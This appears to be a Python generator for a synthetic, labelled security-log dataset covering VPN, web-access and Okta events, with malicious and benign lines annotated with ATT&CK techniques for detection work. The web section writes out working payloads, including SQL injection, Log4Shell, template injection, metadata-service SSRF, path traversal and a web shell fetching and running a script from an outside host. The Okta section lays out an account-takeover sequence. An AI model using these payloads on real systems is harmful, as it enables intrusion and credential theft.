B(S, anyc(T(24, 8, 20, 1), "6-722022", "Group <RVM-Staff> User <m.aziz> IP <92.40.180.12> TCP SVC connection established without compression"), "from a UK mobile network")
B(S, anyc(T(24, 12, 0, 0), "4-113019", "Group = RVM-Staff, Username = m.aziz, IP = 92.40.180.12, Session disconnected. Session Type: SSL, Duration: 3h:39m:59s, Bytes xmt: 41022311, Bytes rcv: 8812001, Reason: User Requested"), "user disconnect")
B(S, ovpn(T(24, 9, 0, 0), "86.131.44.33:40110 [l.brennan] Peer Connection Initiated with [AF_INET]86.131.44.33:40110"), "developer OpenVPN session")
B(S, ovpn(T(24, 9, 0, 1), "l.brennan/86.131.44.33:40110 MULTI_sva: pool returned IPv4=10.212.202.40, IPv6=(Not enabled)"), "pool address")
B(S, ovpn(T(24, 10, 0, 0), "10.212.250.12:51122 TLS Error: TLS handshake failed"), "approved Qualys scanner probing the OpenVPN port during the scan window")
B(S, pulse(T(24, 9, 0, 0), "AUT24414", "Agent login succeeded for s.quinlan/RVM-Users from 86.131.44.90 with Pulse-Secure/22.7.3.3143 (Windows 11) Pulse Secure.", user="s.quinlan", ip="86.131.44.90"), "ICS login")
B(S, pulse(T(24, 9, 0, 2), "NWC23464", "VPN Tunneling: User with IP 10.212.203.12 connected with ESP transport mode.", user="s.quinlan", ip="86.131.44.90"), "tunnel up")
B(S, pulse(T(24, 11, 0, 0), "ADM20716", "Administrator 'adm-netops' applied configuration change 'Realm RVM-Users: MFA required' (ticket CHG-21140).", user="adm-netops", realm="Admin Users", ip="10.212.31.77"),
  "VPN admin tightening MFA under a change ticket")
B(S, f"{T(24, 8, 50, 0).strftime('%Y-%m-%dT%H:%M:%S.%f')[:-3]}+0000 [duoauthproxy.lib.log#info] Duo authentication returned 'allow': 'Success. Logging you in...' (user=r.iyer, factor=push, client_ip=86.131.44.120, server_section=radius_server_auto)",
  "normal single push approval")
B(S, f"{T(24, 9, 50, 0).strftime('%Y-%m-%dT%H:%M:%S.%f')[:-3]}+0000 [duoauthproxy.lib.log#info] Duo authentication returned 'deny': 'User declined or timed out' (user=k.sorensen, factor=push, client_ip=86.131.44.51, server_section=radius_server_auto)",
  "one push that timed out while the user fetched her phone")
B(S, zs(T(24, 9, 10, 0), Username="t.okonkwo@ravenmoor.eu", SessionStatus="ZPN_STATUS_AUTHENTICATED", ClientPublicIP="86.131.44.144", ClientCountryCode="GB", Platform="windows",
  Version="4.5.0.286", Hostname="RVM-LAP-1102", Application="rvm-vbr-01.rvm.internal", ServerPort=443, Policy="Infra-Admins", ConnectionStatus="open"), "admin on a managed laptop to the backup console")
B(S, zs(T(24, 9, 20, 0), Username="f.osei@ravenmoor.eu", SessionStatus="ZPN_STATUS_AUTHENTICATED", ClientPublicIP="86.131.44.125", ClientCountryCode="GB", Platform="windows",
  Version="4.5.0.286", Hostname="RVM-LAP-0611", Application="rvm-fs-01.rvm.internal", ServerPort=445, Policy="Finance-Apps", ConnectionStatus="close", DoubleEncryption="Off", TotalBytesRx=1022311), "finance user's file share session")
B(S, J({"ts": iso(T(24, 10, 0, 0)), "svc": "wg-portal", "level": "info", "event": "peer_key_rotated", "actor": "user:l.brennan", "peer": {"name": "l.brennan-laptop", "allowed_ips": ["10.212.210.40/32"]}, "src_ip": "86.131.44.33", "ticket": None}),
  "user rotating the key of her own WireGuard peer through the portal")
B(S, J({"ts": iso(T(24, 10, 5, 0)), "svc": "wg-portal", "level": "info", "event": "handshake", "peer": "l.brennan-laptop", "endpoint": "86.131.44.33:51820", "latest_handshake_s": 4}),
  "handshake of that peer")
B(S, fsv(T(24, 13, 0, 0), level="\"information\"", logdesc="\"SSL VPN new connection\"", action="\"ssl-new-con\"", tunneltype="\"ssl\"", remip="10.212.250.11", user="\"N/A\"", group="\"N/A\"", msg="\"SSL new connection\""),
  "TLS connection from the approved Tenable scanner checking the SSL-VPN portal")
B(S, anyc(T(24, 14, 0, 0), "5-722037", "Group <RVM-Staff> User <k.sorensen> IP <86.131.44.51> SVC closing connection: Transport closing."), "client closed the tunnel")
# ---------------------------------------------------------------- web-access
S = "web-access"


def ngx(t, ip, req, status, size, ref="-", ua="-", rt=None, host=None):
    ts = t.strftime("%d/%b/%Y:%H:%M:%S +0000")
    s = f'{ip} - - [{ts}] "{req}" {status} {size} "{ref}" "{ua}"'
    if rt is not None:
        s += f" rt={rt} uct=0.001 uht={rt} urt={rt}"
    if host:
        s = f"{host}:443 " + s
    return s


def iis(t, sip, method, uri, query, port, user, cip, ua, status, sub=0, win=0, taken=31):
    return f"{t.strftime('%Y-%m-%d %H:%M:%S')} {sip} {method} {uri} {query} {port} {user} {cip} {ua.replace(' ', '+')} - {status} {sub} {win} {taken}"


def wjson(t, ip, method, path, status, ua, size=512, rt=0.02, host="api.ravenmoor.eu", **kw):
    o = {"time": iso(t), "remote_addr": ip, "x_forwarded_for": kw.pop("xff", "-"), "host": host, "request_method": method, "request_uri": path, "status": status, "body_bytes_sent": size,
         "request_time": rt, "http_user_agent": ua, "upstream": kw.pop("upstream", "10.212.40.30:8080")}
    o.update(kw)
    return J(o)


CH = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
# login API credential stuffing: many users, rotating IPs in one /24, 6 lines, JSON
for i, u in enumerate(["m.keller@dhl-partner.de", "sales@nordfrost.se", "ops@coolcargo.pl", "j.silva@transfrio.pt", "a.kaya@soguk.com.tr"]):
    M(S, wjson(T(23, 21, 0, 2 + i, 100 + i * 40), f"194.180.49.{130 + i}", "POST", "/portal/api/v2/auth/login", 401, "python-httpx/0.27.2", size=61, rt=0.043, login=u),
      "T1110.004", "customer-portal logins for many leaked partner e-mails from rotating addresses within seconds - credential stuffing")
# directory brute force with a wordlist, 6 lines, nginx with timings
for i, p in enumerate(["/.git/config", "/.env", "/backup.zip", "/wp-config.php.bak", "/actuator/env"]):
    M(S, ngx(T(23, 20, 30, 10, i * 120), "45.143.203.88", f"GET {p} HTTP/1.1", 404 if i != 4 else 200, 153 if i != 4 else 4120, ua="Mozilla/5.0 (compatible; ffuf/2.1.0)", rt=f"0.00{i + 1}", host="tms.ravenmoor.eu"),
      "T1595.003", "ffuf wordlist run against sensitive file names - wordlist scanning")
M(S, ngx(T(23, 20, 31, 0), "45.143.203.88", "GET /tms/search?q=1%27%20AND%20EXTRACTVALUE(1%2CCONCAT(0x7e%2C(SELECT%20%40%40version)))--%20- HTTP/1.1", 500, 812, ua="sqlmap/1.8.11#stable (https://sqlmap.org)", rt="0.310", host="tms.ravenmoor.eu"),
  "T1190", "error-based SQL injection from sqlmap")
M(S, ngx(T(23, 20, 32, 0), "45.143.203.88", "GET /tms/search?q=x%27/**/uNiOn/**/aLl/**/sElEcT/**/NULL,CONCAT(username,0x3a,pwhash),NULL/**/FrOm/**/users--+ HTTP/1.1", 200, 22101, ua=CH, rt="0.512", host="tms.ravenmoor.eu"),
  "T1190", "comment-spaced mixed-case UNION injection pulling password hashes (large 200)")
M(S, ngx(T(23, 20, 40, 0), "146.70.87.19", "GET /cgi-bin/.%%32%65/.%%32%65/.%%32%65/.%%32%65/bin/sh HTTP/1.1", 400, 226, ua="curl/8.5.0"),
  "T1190", "double-encoded path traversal to /bin/sh (Apache CVE-2021-42013 style)")
M(S, ngx(T(23, 20, 41, 0), "146.70.87.19", "POST /api/ping HTTP/1.1", 200, 44, ref="-", ua="${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://179.43.151.12:1389/Basic/Command/Base64/aWQ=}"),
  "T1190", "Log4Shell lookup hidden in the User-Agent with ${lower:} obfuscation")
M(S, iis(T(23, 20, 50, 0), "10.212.40.70", "POST", "/owa/auth/x.js", "-", 443, "-", "179.43.151.12", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", 200, taken=412).replace(" - 200", " X-AnonResource-Backend=localhost/ecp/default.flt?~3;&X-BEResource=localhost/owa/auth/logon.aspx?~3 200"),
  "T1190", "Exchange anonymous-resource backend cookie SSRF - ProxyLogon-style")
M(S, iis(T(23, 20, 52, 0), "10.212.40.70", "POST", "/aspnet_client/system_web/errorFE.aspx", "cmd=d2hvYW1pIC9hbGw=", 443, "-", "179.43.151.12", "Mozilla/5.0 (compatible; MSIE 9.0)", 200, taken=188),
  "T1505.003", "POST with a base64 cmd to an .aspx dropped in aspnet_client - web shell")
M(S, wjson(T(23, 21, 10, 0), "146.70.87.19", "GET", "/portal/api/v2/proxy?url=http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/security-credentials/rvm-etl-writer", 200, "Go-http-client/1.1", size=1301),
  "T1552.005", "SSRF through the portal proxy to the metadata service using the IPv4-mapped IPv6 address")
M(S, wjson(T(23, 21, 12, 0), "146.70.87.19", "GET", "/portal/api/v2/shipments?customerId=1&customerId=2&customerId=3&limit=100000", 200, "Go-http-client/1.1", size=58211003, rt=14.2),
  "T1530", "parameter-pollution IDOR pulling 58 MB of other customers' shipments")
M(S, ngx(T(23, 21, 20, 0), "179.43.151.12", "GET /uploads/avatars/7731.php?c=curl%20-s%20http%3A%2F%2F45.155.205.233%2Fm%7Csh HTTP/1.1", 200, 12, ua=CH, host="tms.ravenmoor.eu"),
  "T1505.003", "PHP file in the avatar upload folder executing a download command - web shell")
M(S, ngx(T(23, 21, 22, 0), "179.43.151.12", "POST /tms/render HTTP/1.1", 200, 88, ua=CH, host="tms.ravenmoor.eu").replace('"POST /tms/render HTTP/1.1"', '"POST /tms/render?tpl=%7B%7B%20self.__init__.__globals__.__builtins__.__import__(%27os%27).popen(%27id%27).read()%20%7D%7D HTTP/1.1"'),
  "T1190", "Jinja2 server-side template injection running os.popen")
M(S, ngx(T(23, 21, 25, 0), "103.251.167.20", "GET /portal/download?file=....//....//....//etc/passwd HTTP/1.1", 200, 2211, ua="Mozilla/5.0", rt="0.004"),
  "T1190", "filter-evading ....// path traversal in the download endpoint reading /etc/passwd")
M(S, wjson(T(23, 21, 30, 0), "77.91.124.60", "GET", "/portal/api/v2/me", 200, "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", size=812, session_id="s-7f1e..c92a", session_first_ip="86.131.44.125", geo="RU"),
  "T1550.004", "portal session cookie first issued to a UK office address replayed from a different country")
M(S, ngx(T(23, 21, 40, 0), "10.212.40.21", "GET /api/internal/admin/export?all=true HTTP/1.1", 200, 210044120, ua="Wget/1.21.4", rt="88.120", host="paygw.rvm.internal"),
  "T1005", "200 MB admin export pulled with wget by the compromised ingest host")
# benign
B(S, ngx(T(24, 9, 0, 0), "86.131.44.201", "GET /tms/search?q=rotterdam%20or%20antwerp HTTP/1.1", 200, 4120, ref="https://tms.ravenmoor.eu/tms/", ua=CH, rt="0.081", host="tms.ravenmoor.eu"),
  "ordinary search containing 'or'")
B(S, ngx(T(24, 9, 1, 0), "86.131.44.201", "GET /tms/search?q=%22Union%20Frozen%20Foods%22%20select%20pallets HTTP/1.1", 200, 3911, ref="https://tms.ravenmoor.eu/tms/", ua=CH, rt="0.077", host="tms.ravenmoor.eu"),
  "customer name containing 'Union' and the word 'select' in quotes - not injection")
B(S, ngx(T(24, 9, 2, 0), "86.131.44.201", "GET /tms/search?q=O%27Brien%20Haulage HTTP/1.1", 200, 1201, ref="https://tms.ravenmoor.eu/tms/", ua=CH, rt="0.060", host="tms.ravenmoor.eu"),
  "apostrophe in a company name")
for i, p in enumerate(["/?id=1%27%20OR%20%271%27%3D%271", "/..%2f..%2f..%2fetc%2fpasswd", "/cgi-bin/test-cgi", "/index.php?page=php://filter/convert.base64-encode/resource=index"]):
    B(S, ngx(T(24, 10, 0, 1 + i), "10.212.250.11", f"GET {p} HTTP/1.1", 404, 153, ua="Mozilla/5.0 (compatible; Nessus SOAP v0.0.1; Tenable approved scan VSCAN-01)", rt="0.002", host="tms.ravenmoor.eu"),
      "attack payloads from the approved Tenable scanner VSCAN-01 during the scan window")
B(S, wjson(T(24, 10, 5, 0), "10.212.250.12", "GET", "/portal/api/v2/auth/login?username=admin%27--", 400, "Qualys WAS/10.2 (authorised scan RVM-WAS-weekly)", size=88),
  "Qualys WAS authorised scan payload")
B(S, wjson(T(24, 8, 30, 0), "86.131.44.125", "POST", "/portal/api/v2/auth/login", 200, CH, size=1022, login="f.osei@ravenmoor.eu"), "staff portal login")
B(S, wjson(T(24, 8, 31, 0), "92.40.176.201", "POST", "/portal/api/v2/auth/login", 401, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148", size=61, login="dispatch@polarlog.nl"),
  "one partner mistyping the portal password once")
B(S, wjson(T(24, 8, 32, 0), "92.40.176.201", "POST", "/portal/api/v2/auth/login", 200, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148", size=1022, login="dispatch@polarlog.nl"), "and the retry succeeding")
B(S, wjson(T(24, 8, 40, 0), "92.40.176.201", "GET", "/portal/api/v2/shipments?customerId=4412&limit=50", 200, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148", size=22011), "partner listing its shipments")
B(S, iis(T(24, 8, 45, 0), "10.212.40.70", "GET", "/owa/", "ClientId=4F1C0D2E3A5B4C6D&exsvurl=1&ll-cc=2057", 443, "RVM\\w.lindqvist", "86.131.44.201", CH, 200), "OWA use")
B(S, iis(T(24, 8, 46, 0), "10.212.40.70", "POST", "/Microsoft-Server-ActiveSync/default.eas", "Cmd=Ping&User=f.osei&DeviceId=ABCD1234EFGH&DeviceType=iPhone", 443, "RVM\\f.osei", "92.40.176.45", "Apple-iPhone16C1/2201.211", 200, taken=540012),
  "long-poll ActiveSync ping")
B(S, iis(T(24, 8, 47, 0), "10.212.40.70", "GET", "/aspnet_client/", "-", 443, "-", "10.212.250.11", "Mozilla/5.0 (compatible; Nessus)", 403, 14, 0, 2), "approved scanner enumerating IIS folders")
B(S, ngx(T(24, 9, 10, 0), "10.212.70.12", "GET /healthz HTTP/1.1", 200, 2, ua="kube-probe/1.31", rt="0.000", host="tms.ravenmoor.eu"), "kubelet health probe")
B(S, ngx(T(24, 9, 11, 0), "86.131.44.201", "GET /static/app.4f1c0d.js HTTP/2.0", 304, 0, ref="https://tms.ravenmoor.eu/tms/", ua=CH, rt="0.000", host="tms.ravenmoor.eu"), "cached static asset")
B(S, ngx(T(24, 9, 12, 0), "66.249.66.10", "GET /robots.txt HTTP/1.1", 200, 68, ua="Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"), "search crawler")
B(S, wjson(T(24, 9, 20, 0), "10.212.9.20", "POST", "/portal/api/v2/internal/deploy-hook", 204, "GitLab/17.6.1", size=0, upstream="10.212.40.31:8080"), "CI deploy hook")
B(S, ngx(T(24, 9, 30, 0), "86.131.44.77", "GET /portal/download?file=invoices%2F2026%2F11%2FINV-88213.pdf HTTP/1.1", 200, 88120, ref="https://portal.ravenmoor.eu/", ua=CH, rt="0.120"), "customer downloading an invoice by path")
B(S, wjson(T(24, 9, 40, 0), "10.212.8.15", "GET", "/portal/api/v2/internal/admin/export?since=2026-11-23", 200, "veeam-plugin/12.2", size=20220110, rt=9.8, host="paygw.rvm.internal"), "scheduled nightly export pulled by the backup plug-in")
B(S, ngx(T(24, 9, 50, 0), "86.131.44.90", "GET /wp-login.php HTTP/1.1", 404, 153, ua=CH, host="tms.ravenmoor.eu"), "one stray WordPress URL from a staff bookmark")
B(S, wjson(T(24, 10, 10, 0), "10.212.40.30", "GET", "/latest/meta-data/placement/region", 200, "aws-sdk-java/2.29.20", size=12, host="169.254.169.254", upstream="-"), "SDK reading its own region from IMDS")
# ---------------------------------------------------------------- okta
S = "okta"
_ok = [0]


def okta(t, etype, actor, ip, outcome="SUCCESS", reason=None, targets=None, display=None, severity="INFO", ua=CH, os_="Windows 10", browser="CHROME", geo=("London", "GB"), asn=("BT", "2856"),
         behaviors=None, risk=None, dtd=None, wrap=None, proxy=False, threat=None):
    _ok[0] += 1
    n = _ok[0]
    e = {"actor": {"id": "00u" + format(0x1a2b3c4d5e6f + n * 977, "x")[:14] + "7", "type": "User", "alternateId": actor, "displayName": actor.split("@")[0].replace(".", " ").title()},
         "client": {"userAgent": {"rawUserAgent": ua, "os": os_, "browser": browser}, "zone": "null", "device": "Computer", "ipAddress": ip,
                    "geographicalContext": {"city": geo[0], "country": geo[1]}},
         "authenticationContext": {"authenticationStep": 0, "externalSessionId": "102" + format(0x9f8e7d6c5b4a + n * 131, "x")},
         "displayMessage": display or etype, "eventType": etype, "outcome": {"result": outcome, "reason": reason}, "published": iso(t),
         "securityContext": {"asNumber": int(asn[1]), "asOrg": asn[0], "isp": asn[0], "domain": None, "isProxy": proxy},
         "severity": severity, "debugContext": {"debugData": dict(dtd or {}, requestUri="/api/v1/authn" if "session" in etype else "/api/v1/" + etype.split(".")[0])},
         "legacyEventType": None, "transaction": {"type": "WEB", "id": "Z" + format(0x3c2b1a09f8e7 + n * 211, "X") + "AAB"}, "uuid": "%08x-%04x-11f1-%04x-%012x" % (0x8c7b0000 + n * 313, n * 29 % 65536, 0x8000 + n, 0x4f3e2d1c0b0a + n * 101),
         "version": "0", "target": targets or []}
    if behaviors:
        e["debugContext"]["debugData"]["behaviors"] = behaviors
    if risk:
        e["debugContext"]["debugData"]["risk"] = risk
    if threat:
        e["debugContext"]["debugData"]["threatSuspected"] = "true"
    if wrap == "eventbridge":
        return J({"version": "0", "id": "%08x-0000-4000-8000-%012x" % (0xab000000 + n, n), "detail-type": "SystemLog", "source": "aws.partner/okta.com/ravenmoor/logs", "account": ACCT, "time": iso(t, 0), "region": "eu-central-1", "resources": [], "detail": e})
    if wrap == "fluentbit":
        return J({"date": t.timestamp(), "log": J(e), "okta_org": "ravenmoor.okta-emea.com", "source": "okta_system_log", "tag": "okta.systemlog"})
    return J(e)


def tgt(kind, alt, name=None):
    return {"id": "0oa" + format(abs(hash(alt)) % (16 ** 14), "x").zfill(14)[:14] if False else "0" + kind[:2].lower() + format(sum(map(ord, alt)) * 7919, "x").zfill(14), "type": kind, "alternateId": alt, "displayName": name or alt}


# ThreatInsight-style spray: many users one address, 6 lines
for i, u in enumerate(["a.novak", "c.brandt", "d.mensah", "g.ferrante", "h.yilmaz"]):
    M(S, okta(T(23, 22, 10, 1 + i * 2, 50 * i), "user.session.start", f"{u}@ravenmoor.eu", "194.180.49.201", "FAILURE", "INVALID_CREDENTIALS", ua="python-requests/2.32.3", os_="Unknown", browser="UNKNOWN",
              geo=("Amsterdam", "NL"), asn=("DIGITALOCEAN", "14061"), threat=True, wrap="fluentbit" if i % 2 else None),
      "T1110.003", "one address failing sign-in for many users seconds apart with ThreatInsight suspicion - password spraying")
# MFA fatigue: pushes rejected repeatedly, one user, 6 lines
for i in range(5):
    M(S, okta(T(23, 22, 30, 5 + i * 8), "system.push.send_factor_verify_push", "b.ostrowski@ravenmoor.eu", "77.91.124.55", "SUCCESS" if i % 2 == 0 else "FAILURE",
              None if i % 2 == 0 else "USER_REJECTED_OKTA_VERIFY_PUSH", ua="Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", os_="Linux", browser="FIREFOX", geo=("Frankfurt", "DE"), asn=("Aeza", "210644")),
      "T1621", "push after push sent and rejected for one user from a VPS - MFA fatigue")
M(S, okta(T(23, 22, 31, 20), "user.authentication.auth_via_mfa", "b.ostrowski@ravenmoor.eu", "77.91.124.55", ua="Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", os_="Linux", browser="FIREFOX",
  geo=("Frankfurt", "DE"), asn=("Aeza", "210644"), behaviors="{New Geo-Location=POSITIVE, New Device=POSITIVE, New IP=POSITIVE, Velocity=POSITIVE}", risk="{level=HIGH, reasons=Anomalous Device, Anomalous Location}"),
  "T1621", "the fatigued push finally approved - new device, new geo, high risk")
M(S, okta(T(23, 22, 33, 0), "user.mfa.factor.activate", "b.ostrowski@ravenmoor.eu", "77.91.124.55", targets=[tgt("User", "b.ostrowski@ravenmoor.eu"), tgt("AuthenticatorEnrollment", "Okta Verify", "Okta Verify (Pixel 7a)")],
  ua="Okta Verify/9.38.0 (Android 15)", os_="Android", browser="UNKNOWN", geo=("Frankfurt", "DE"), asn=("Aeza", "210644"), wrap="eventbridge"),
  "T1098.005", "attacker enrolls their own Okta Verify device right after the push was approved")
M(S, okta(T(23, 22, 40, 0), "app.oauth2.as.consent.grant", "b.ostrowski@ravenmoor.eu", "77.91.124.55", targets=[tgt("AppInstance", "Mail Backup Sync Pro"), tgt("Scope", "okta.users.read okta.groups.read offline_access")],
  geo=("Frankfurt", "DE"), asn=("Aeza", "210644")),
  "T1528", "consent granted to an unknown third-party app with offline access - application access token theft")
M(S, okta(T(23, 22, 45, 0), "user.account.privilege.grant", "b.ostrowski@ravenmoor.eu", "77.91.124.55", targets=[tgt("User", "b.ostrowski@ravenmoor.eu"), tgt("ROLE", "SUPER_ADMIN", "Super Administrator")], severity="WARN",
  geo=("Frankfurt", "DE"), asn=("Aeza", "210644")), "T1098.003", "super-admin role granted to the hijacked account (by itself)")
M(S, okta(T(23, 22, 47, 0), "system.idp.lifecycle.create", "b.ostrowski@ravenmoor.eu", "77.91.124.55", targets=[tgt("IdentityProvider", "SAML2", "AzureAD-Backup")], geo=("Frankfurt", "DE"), asn=("Aeza", "210644"), wrap="eventbridge"),
  "T1484.002", "new inbound SAML identity provider created - federation trust backdoor")
M(S, okta(T(23, 22, 49, 0), "zone.update", "b.ostrowski@ravenmoor.eu", "77.91.124.55", targets=[tgt("Zone", "Corporate-Trusted", "Corporate Trusted IPs")], display="Update network zone",
  dtd={"changedAttributes": "gateways: +77.91.124.0/24"}, geo=("Frankfurt", "DE"), asn=("Aeza", "210644")),
  "T1556.009", "attacker range added to the trusted network zone so conditional access skips MFA")
M(S, okta(T(23, 22, 51, 0), "policy.rule.deactivate", "b.ostrowski@ravenmoor.eu", "77.91.124.55", targets=[tgt("PolicyRule", "Require phishing-resistant MFA for admins")], severity="WARN", geo=("Frankfurt", "DE"), asn=("Aeza", "210644")),
  "T1556.006", "admin MFA rule switched off")
M(S, okta(T(23, 22, 53, 0), "system.api_token.create", "b.ostrowski@ravenmoor.eu", "77.91.124.55", targets=[tgt("Token", "okta-backup-sync")], geo=("Frankfurt", "DE"), asn=("Aeza", "210644")),
  "T1098.001", "long-lived API token created by the hijacked super admin")
M(S, okta(T(23, 22, 55, 0), "user.account.reset_password", "b.ostrowski@ravenmoor.eu", "77.91.124.55", targets=[tgt("User", "adm-t.okonkwo@ravenmoor.eu")], geo=("Frankfurt", "DE"), asn=("Aeza", "210644")),
  "T1531", "password of a real administrator reset to lock the defenders out")
M(S, okta(T(23, 22, 57, 0), "user.session.impersonation.initiate", "b.ostrowski@ravenmoor.eu", "77.91.124.55", targets=[tgt("User", "f.osei@ravenmoor.eu")], severity="WARN", geo=("Frankfurt", "DE"), asn=("Aeza", "210644")),
  "T1134.001", "admin impersonation of a finance user session")
M(S, okta(T(23, 23, 0, 0), "user.session.start", "f.osei@ravenmoor.eu", "185.220.101.47", ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", geo=("Unknown", "Unknown"), asn=("Tor", "60729"), proxy=True,
  dtd={"dtHash": "3f2e1d0c9b8a", "reqUri": "/idp/idx/identify"}, behaviors="{New IP=POSITIVE, New Geo-Location=POSITIVE}"),
  "T1078.004", "session for the push-fatigued user's colleague from a Tor exit flagged as proxy")
M(S, okta(T(23, 23, 5, 0), "policy.evaluate_sign_on", "l.virtanen@ravenmoor.eu", "103.251.167.20", outcome="ALLOW", dtd={"threatSuspected": "false", "deviceTrust": "UNTRUSTED", "cookieReplay": "DT cookie from 86.131.44.90 used from 103.251.167.20"},
  geo=("Hanoi", "VN"), asn=("VNPT", "45899")),
  "T1550.004", "device-trust session cookie replayed from a foreign address - stolen web session cookie")
M(S, okta(T(23, 23, 10, 0), "application.user_membership.add", "b.ostrowski@ravenmoor.eu", "77.91.124.55", targets=[tgt("AppInstance", "AWS IAM Identity Center"), tgt("User", "b.ostrowski@ravenmoor.eu")], geo=("Frankfurt", "DE"), asn=("Aeza", "210644"), wrap="fluentbit"),
  "T1098", "hijacked account assigns itself the AWS SSO app")
M(S, okta(T(23, 23, 15, 0), "system.log_stream.lifecycle.deactivate", "b.ostrowski@ravenmoor.eu", "77.91.124.55", targets=[tgt("LogStream", "eventbridge-siem")], severity="WARN", geo=("Frankfurt", "DE"), asn=("Aeza", "210644")),
  "T1562.008", "the log stream feeding the SIEM deactivated")
# benign
B(S, okta(T(24, 8, 0, 0), "user.session.start", "w.lindqvist@ravenmoor.eu", "86.131.44.201"), "morning sign-in from home broadband")
B(S, okta(T(24, 8, 0, 5), "user.authentication.auth_via_mfa", "w.lindqvist@ravenmoor.eu", "86.131.44.201", behaviors="{New Geo-Location=NEGATIVE, New Device=NEGATIVE, New IP=NEGATIVE}", risk="{level=LOW}"), "MFA at sign-in")
B(S, okta(T(24, 8, 1, 0), "user.authentication.sso", "w.lindqvist@ravenmoor.eu", "86.131.44.201", targets=[tgt("AppInstance", "Microsoft Office 365")], wrap="eventbridge"), "SSO into Office 365")
B(S, okta(T(24, 8, 5, 0), "user.session.start", "n.achebe@ravenmoor.eu", "92.40.176.88", "FAILURE", "INVALID_CREDENTIALS"), "new hire's single failed sign-in")
B(S, okta(T(24, 8, 5, 40), "user.session.start", "n.achebe@ravenmoor.eu", "92.40.176.88"), "and her successful retry")
B(S, okta(T(24, 8, 10, 0), "system.push.send_factor_verify_push", "r.iyer@ravenmoor.eu", "86.131.44.120"), "one push sent")
B(S, okta(T(24, 8, 10, 9), "user.authentication.auth_via_mfa", "r.iyer@ravenmoor.eu", "86.131.44.120", wrap="fluentbit"), "approved at once")
B(S, okta(T(24, 9, 0, 0), "user.mfa.factor.reset_all", "adm-t.okonkwo@ravenmoor.eu", "86.131.44.144", targets=[tgt("User", "b.ostrowski@ravenmoor.eu")], display="Reset all factors for user",
  dtd={"changeTicket": "INC-30418 incident recovery"}), "IR admin resetting the hijacked user's factors with an incident ticket")
B(S, okta(T(24, 9, 5, 0), "system.api_token.revoke", "adm-t.okonkwo@ravenmoor.eu", "86.131.44.144", targets=[tgt("Token", "okta-backup-sync")], dtd={"changeTicket": "INC-30418"}), "IR admin revoking the attacker's token")
B(S, okta(T(24, 9, 10, 0), "system.api_token.create", "adm-t.okonkwo@ravenmoor.eu", "86.131.44.144", targets=[tgt("Token", "siem-reader-2026-12")], dtd={"changeTicket": "CHG-21150 quarterly SIEM token rotation"}),
  "known admin rotating the SIEM reader token with a change ticket")
B(S, okta(T(24, 9, 11, 0), "system.api_token.revoke", "adm-t.okonkwo@ravenmoor.eu", "86.131.44.144", targets=[tgt("Token", "siem-reader-2026-09")], dtd={"changeTicket": "CHG-21150 quarterly SIEM token rotation"}), "old SIEM token revoked in the same rotation")
B(S, okta(T(24, 9, 20, 0), "user.lifecycle.create", "svc_sailpoint_prov@ravenmoor.eu", "10.212.9.30", targets=[tgt("User", "b.tanaka@ravenmoor.eu")], ua="SailPoint-IIQ/8.4", os_="Unknown", browser="UNKNOWN"), "provisioning a new hire")
B(S, okta(T(24, 9, 21, 0), "group.user_membership.add", "svc_sailpoint_prov@ravenmoor.eu", "10.212.9.30", targets=[tgt("User", "b.tanaka@ravenmoor.eu"), tgt("UserGroup", "SRE")], ua="SailPoint-IIQ/8.4", os_="Unknown", browser="UNKNOWN"), "joiner group membership")
B(S, okta(T(24, 9, 30, 0), "user.mfa.factor.activate", "b.tanaka@ravenmoor.eu", "86.131.44.144", targets=[tgt("User", "b.tanaka@ravenmoor.eu"), tgt("AuthenticatorEnrollment", "Okta Verify", "Okta Verify (iPhone 15)")],
  ua="Okta Verify/9.38.0 (iOS 18.1)", os_="iOS", browser="UNKNOWN"), "new hire enrolling Okta Verify on day one from the office")
B(S, okta(T(24, 10, 0, 0), "zone.update", "adm-netops@ravenmoor.eu", "86.131.44.144", targets=[tgt("Zone", "Corporate-Trusted", "Corporate Trusted IPs")], display="Update network zone",
  dtd={"changedAttributes": "gateways: -77.91.124.0/24", "changeTicket": "INC-30418"}), "IR removing the attacker range from the trusted zone")
B(S, okta(T(24, 10, 10, 0), "user.session.start", "s.quinlan@ravenmoor.eu", "86.131.44.90", behaviors="{New Device=POSITIVE, New IP=NEGATIVE}"), "new laptop after hardware refresh, same home IP")
B(S, okta(T(24, 10, 20, 0), "app.oauth2.as.consent.grant", "s.quinlan@ravenmoor.eu", "86.131.44.90", targets=[tgt("AppInstance", "Slack"), tgt("Scope", "openid profile email")]), "consent to the approved Slack app with basic scopes")
B(S, okta(T(24, 11, 0, 0), "policy.evaluate_sign_on", "e.achterberg@ravenmoor.eu", "86.131.44.77", outcome="ALLOW", dtd={"deviceTrust": "TRUSTED"}), "managed device sign-on policy allow")
B(S, okta(T(24, 11, 10, 0), "system.push.send_factor_verify_push", "e.achterberg@ravenmoor.eu", "86.131.44.77", "FAILURE", "USER_REJECTED_OKTA_VERIFY_PUSH", wrap="eventbridge"), "a single push rejected by mistake")
B(S, okta(T(24, 11, 11, 0), "user.authentication.auth_via_mfa", "e.achterberg@ravenmoor.eu", "86.131.44.77"), "retry approved")
B(S, okta(T(24, 11, 30, 0), "user.account.update_password", "f.osei@ravenmoor.eu", "86.131.44.125", targets=[tgt("User", "f.osei@ravenmoor.eu")]), "user changing her own password after the incident briefing")
